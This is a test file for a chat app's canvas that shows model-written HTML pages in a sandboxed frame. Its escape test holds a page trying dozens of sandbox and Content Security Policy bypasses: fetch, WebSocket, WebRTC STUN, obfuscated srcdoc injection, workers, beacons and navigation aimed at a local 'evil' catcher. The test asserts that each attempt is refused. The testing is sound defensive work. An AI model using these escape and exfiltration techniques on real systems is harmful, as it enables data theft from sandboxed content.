// The canvas: pages that models make are shown, repaired, changed, and cannot get out.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { ask, closeBrowser, ended, lastTurn, Server, until, Visitor } from '../harness.mjs';

const page = (title, body) => `Here it is.\n\n\`\`\`html\n<!doctype html>\n<title>${title}</title>\n<body>\n${body}\n</body>\n\`\`\`\n`;

// What comes here has got out: requests, and connections by themselves.
class Catcher {
  hits = [];

  async open() {
    this.http = createServer((request, response) => {
      this.hits.push(request.url);
      response.setHeader('Access-Control-Allow-Origin', '*');
      response.end('caught');
    }).listen(0, '127.0.0.1');
    await new Promise((resolve) => { this.http.on('listening', resolve); });
    this.http.on('connection', () => this.hits.push('connection'));
    this.stun = createSocket('udp4', () => this.hits.push('stun'));
    await new Promise((resolve) => { this.stun.bind(this.http.address().port, '127.0.0.1', resolve); });
    this.port = this.http.address().port;
    return this;
  }

  close() {
    this.http.close();
    this.stun.close();
  }
}

// Each try writes one line: its name, and `refused` or what it got.
const escape = (port) => page('Escape', `<pre id="out"></pre><script>
const out = document.getElementById('out');
const evil = 'http://127.0.0.1:${port}/';
const say = (name, got) => { out.textContent += name + ': ' + got + '\\n'; };
const attempt = async (name, act) => {
  try { const got = await act(); say(name, got === undefined || got === null ? 'refused' : got); }
  catch { say(name, 'refused'); }
};
const loads = (element, key, url) => new Promise((resolve, reject) => {
  element.onload = () => resolve('loaded'); element.onerror = reject; element[key] = url;
  document.body.append(element);
});
const inner = (html) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  addEventListener('message', (e) => { if (e.source === frame.contentWindow) resolve(e.data); });
  setTimeout(() => resolve(null), 1500);
  frame['src' + 'doc'] = html; document.body.append(frame);
});
const stun = 'new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] })';
(async () => {
  await attempt('cookie', () => { document.cookie = 'a=1'; return document.cookie || null; });
  await attempt('storage', () => { localStorage.a = 1; return 'kept'; });
  await attempt('parent', () => parent.document.title);
  await attempt('fetch', () => fetch(evil + 'fetch').then(() => 'sent'));
  await attempt('own api', () => fetch('/api/models').then(() => 'sent'));
  await attempt('blind', () => fetch(evil + 'blind', { mode: 'no-cors' }).then(() => 'sent'));
  await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', evil + 'xhr', false); x.send(); return 'sent'; });
  await attempt('socket', () => new Promise((y, n) => { const s = new WebSocket(evil.replace('http', 'ws')); s.onopen = () => y('open'); s.onerror = n; }));
  await attempt('events', () => new Promise((y, n) => { const s = new EventSource(evil + 'events'); s.onopen = () => y('open'); s.onerror = n; }));
  await attempt('image', () => loads(new Image(), 'src', evil + 'image'));
  await attempt('script', () => loads(document.createElement('script'), 'src', evil + 'script'));
  await attempt('style', () => { const l = document.createElement('link'); l.rel = 'stylesheet'; return loads(l, 'href', evil + 'style'); });
  await attempt('frame', () => inner('<meta http-equiv="refresh" content="0;url=' + evil + 'inner">'));
  await attempt('top', () => { top.location.href = evil + 'top'; return 'gone'; });
  await attempt('popup', () => window.open(evil + 'popup'));
  await attempt('rtc', () => { const c = eval(stun); c.createDataChannel('a'); return c.createOffer().then((o) => c.setLocalDescription(o)).then(() => 'sent'); });
  const spy = '<script>let got = null; try { const c = ' + stun + '; c.createDataChannel("a"); c.createOffer().then((o) => c.setLocalDescription(o)); got = "sent"; } catch {} parent.postMessage(got, "*");<' + '/script>';
  const quoted = spy.replaceAll('"', '&quot;');
  const heard = (put) => new Promise((resolve) => {
    addEventListener('message', (e) => resolve(e.data));
    setTimeout(() => resolve(null), 700);
    put();
  });
  const SOURCE = 'src' + 'doc'; // In one piece it would be taken out of the page's text.
  const blank = () => document.body.appendChild(document.createElement('iframe'));
  const ways = {
    property: () => { const f = document.createElement('iframe'); f[SOURCE] = spy; document.body.append(f); },
    attribute: () => { const f = document.createElement('iframe'); f.setAttribute(SOURCE, spy); document.body.append(f); },
    capitals: () => { const f = document.createElement('iframe'); f.setAttribute('SrcD' + 'oc', spy); document.body.append(f); },
    node: () => { const n = document.createAttribute(SOURCE); n.value = spy; const f = document.createElement('iframe'); f.setAttributeNode(n); document.body.append(f); },
    late: () => { const n = document.createAttribute(SOURCE); const f = document.createElement('iframe'); f.setAttributeNode(n); document.body.append(f); n.value = spy; },
    html: () => { document.body.insertAdjacentHTML('beforeend', '<iframe ' + SOURCE + '="' + quoted + '"></iframe>'); },
    inner: () => { const d = document.createElement('div'); d.innerHTML = '<iframe ' + SOURCE.toUpperCase() + '="' + quoted + '"></iframe>'; document.body.append(d); },
    shadow: () => { const d = document.createElement('div'); d.attachShadow({ mode: 'closed' }).innerHTML = '<iframe ' + SOURCE + '="' + quoted + '"></iframe>'; document.body.append(d); },
    write: () => { document.write('<iframe src'); document.write('doc="' + quoted + '"></iframe>'); },
    parser: () => { document.body.append(document.adoptNode(new DOMParser().parseFromString('<iframe ' + SOURCE + '="' + quoted + '"></iframe>', 'text/html').querySelector('iframe'))); },
    xml: () => { document.body.append(document.adoptNode(new DOMParser().parseFromString('<iframe xmlns="http://www.w3.org/1999/xhtml" ' + SOURCE + '="' + quoted.replaceAll('<', '&lt;').replaceAll('=>', '=&gt;') + '"/>', 'application/xml').documentElement)); },
    fragment: () => { document.body.append(document.createRange().createContextualFragment('<iframe ' + SOURCE + '="' + quoted + '"></iframe>')); },
    unsafe: () => { const d = document.createElement('div'); d.setHTMLUnsafe('<iframe ' + SOURCE + '="' + quoted + '"></iframe>'); document.body.append(d); },
    script: () => { const f = blank(); f.src = 'javascript:parent.postMessage(typeof RTCPeerConnection, "*")'; },
    data: () => { const f = blank(); f.src = 'data:text/html,' + encodeURIComponent(spy); },
    blob: () => { const f = blank(); f.src = URL.createObjectURL(new Blob([spy], { type: 'text/html' })); },
    object: () => { const o = document.createElement('object'); o.data = 'data:text/html,' + encodeURIComponent(spy); document.body.append(o); },
    realm: () => { const c = eval(stun.replace('new ', 'new (document.body.appendChild(document.createElement("iframe")).contentWindow).')); c.createDataChannel('a'); postMessage('sent', '*'); },
  };
  for (const [name, put] of Object.entries(ways)) await attempt('rtc by ' + name, () => heard(put));
  await attempt('worker', () => new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + evil + 'worker", { mode: "no-cors" }).then(() => postMessage("sent"), () => postMessage(null))']))); w.onmessage = (e) => y(e.data); w.onerror = n; }));
  const form = document.createElement('form'); form.action = evil + 'form'; document.body.append(form);
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest']) {
    await attempt('link ' + rel, () => { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = evil + rel; document.head.append(l); return null; });
  }
  await attempt('form', () => { form.submit(); return null; });
  await attempt('beacon', () => { navigator.sendBeacon(evil + 'beacon', 'x'); return null; });
  say('done', 'yes');
})();
</script>`);

const leaving = (port, how) => page(`Leaving ${how}`, how === 'meta'
  ? `<meta http-equiv="refresh" content="0;url=http://127.0.0.1:${port}/meta">`
  : `<script>location.href = 'http://127.0.0.1:${port}/self';</script>`);

let server;
let catcher;
before(async () => {
  catcher = await new Catcher().open();
  server = await Server.start({
    step_ms: 1,
    replies: [
      { when: 'escape', say: escape(catcher.port) },
      { when: 'leave by meta', say: leaving(catcher.port, 'meta') },
      { when: 'leave by itself', say: leaving(catcher.port, 'self') },
      { when: 'corrected', say: page('Counter', '<button onclick="this.textContent = 1">go</button>') },
      { when: 'counter', say: page('Counter', '<button>go</button><script>\nmissing.thing();</script>') },
      { when: 'Change the page', say: page('Blue', '<p style="color: blue">blue</p>') },
      { when: 'red', say: page('Red', '<p style="color: red">red</p>') },
    ],
  });
});
after(async () => {
  await closeBrowser();
  await server?.stop();
  catcher?.close();
});

const WIDE = { viewport: { width: 1500, height: 900 } };
// Longer answers than the server's default, and nothing asked in between.
const LONG = '{"maxTokens":40000,"autoRepair":false}';
const inside = (tab) => tab.frameLocator('.canvas-frame');
// A page that is refused says so in the console: that is what is wanted here.
const REFUSED = { ...WIDE, expects: /Content Security Policy|sandboxed|Unsafe attempt|Blocked|policy:|violates|net::ERR|Failed to|request to (127|$)/ }; // Without a host: a data: or blob: address.

test('a page opens beside the chat and works', async () => {
  const visitor = await Visitor.open(server.url, WIDE);
  const { page: tab } = visitor;
  await ask(tab, 'a red page', 'Instant');
  await inside(tab).getByText('red').waitFor();
  assert.equal(await tab.locator('.canvas-head h2').innerText(), 'Red');
  await tab.getByRole('tab', { name: 'Code' }).click();
  await tab.locator('.canvas-body pre', { hasText: '<!doctype html>' }).waitFor();
  const saved = tab.waitForEvent('download');
  await tab.getByRole('button', { name: 'Download' }).click();
  assert.equal((await saved).suggestedFilename(), 'Red.html');
  await tab.getByRole('tab', { name: 'Preview' }).click();
  await tab.getByLabel('Change something').fill('make it blue');
  await tab.getByLabel('Change something').press('Enter');
  await inside(tab).getByText('blue').waitFor();
  await tab.locator('.canvas').getByText('2 of 2').waitFor();
  await tab.locator('.canvas').getByRole('button', { name: 'Version before' }).click();
  await inside(tab).getByText('red').waitFor();
  await tab.locator('.canvas').getByRole('button', { name: 'Close' }).click();
  await lastTurn(tab).getByRole('button', { name: 'Open' }).click();
  await inside(tab).getByText('blue').waitFor();
  await visitor.close();
});

test('a page that fails is given back to the model once, by itself', async () => {
  const visitor = await Visitor.open(server.url, WIDE);
  const { page: tab } = visitor;
  await ask(tab, 'a counter', 'Instant');
  await until('the repair', async () => (await tab.locator('.turn').count()) === 2);
  const asked = await lastTurn(tab).locator('.ask').innerText();
  assert.match(asked, /missing is not defined/);
  await ended(tab);
  await inside(tab).getByRole('button', { name: 'go' }).click();
  await inside(tab).getByRole('button', { name: '1' }).waitFor();
  visitor.problems = visitor.problems.filter((p) => !/missing is not defined/.test(p));
  await visitor.close();
});

test('nothing that a page tries gets out of the canvas', async () => {
  const visitor = await Visitor.open(server.url, REFUSED);
  const { page: tab } = visitor;
  await tab.evaluate((text) => localStorage.setItem('ponder.settings', text), LONG);
  await tab.reload();
  await ask(tab, 'escape', 'Instant');
  const address = tab.url();
  const out = inside(tab).locator('#out');
  await out.filter({ hasText: 'done: yes' }).waitFor();
  const lines = (await out.innerText()).trim().split('\n');
  assert.ok(lines.length >= 36, lines.join('\n'));
  assert.deepEqual(lines.filter((line) => !/: (refused|yes)$/.test(line)), []);
  assert.deepEqual(catcher.hits, []);
  assert.match(tab.url(), new RegExp(address.replace(/[^\w]/g, '.')));
  assert.equal(visitor.context.pages().length, 1);
  await visitor.close();
});

test('a page cannot lead its frame elsewhere', async () => {
  for (const how of ['meta', 'itself']) {
    const visitor = await Visitor.open(server.url, REFUSED);
    const { page: tab } = visitor;
    const refused = new Promise((resolve) => {
      tab.on('console', (message) => { if (/frame-src|default-src/.test(message.text())) resolve(); });
    });
    await ask(tab, `leave by ${how}`, 'Instant');
    await refused;
    // Chromium opens the connection before it asks the policy; nothing is sent over it.
    assert.deepEqual(catcher.hits.filter((hit) => hit !== 'connection'), [], how);
    await visitor.close();
  }
});

test('the frame has an origin of its own, also in a tab of its own', async () => {
  const response = await fetch(`${server.url}canvas/frame.html`);
  const policy = response.headers.get('content-security-policy');
  assert.match(policy, /^sandbox allow-scripts;/);
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /connect-src 'none'/);
  const visitor = await Visitor.open(server.url);
  const tab = await visitor.context.newPage();
  await tab.goto(`${server.url}canvas/frame.html`);
  assert.equal(await tab.evaluate(() => self.origin), 'null');
  await visitor.close();
});

test('a sample of the gallery can be played', async () => {
  const visitor = await Visitor.open(server.url, WIDE);
  const { page: tab } = visitor;
  await tab.goto(`${server.url}#/gallery`);
  for (const [name, text] of [['Sieve', 'Which numbers are left?'], ['Gates', 'full adder'], ['Titration', 'strength of the acid']]) {
    await tab.locator('.sample', { hasText: name }).click();
    await inside(tab).getByRole('heading', { name: new RegExp(text.replace('?', '.')) }).waitFor();
  }
  await tab.locator('.sample', { hasText: 'Orbit' }).click();
  await inside(tab).locator('canvas').waitFor();
  assert.equal(await tab.getByText('Written by hand').count(), 4);
  await visitor.close();
});
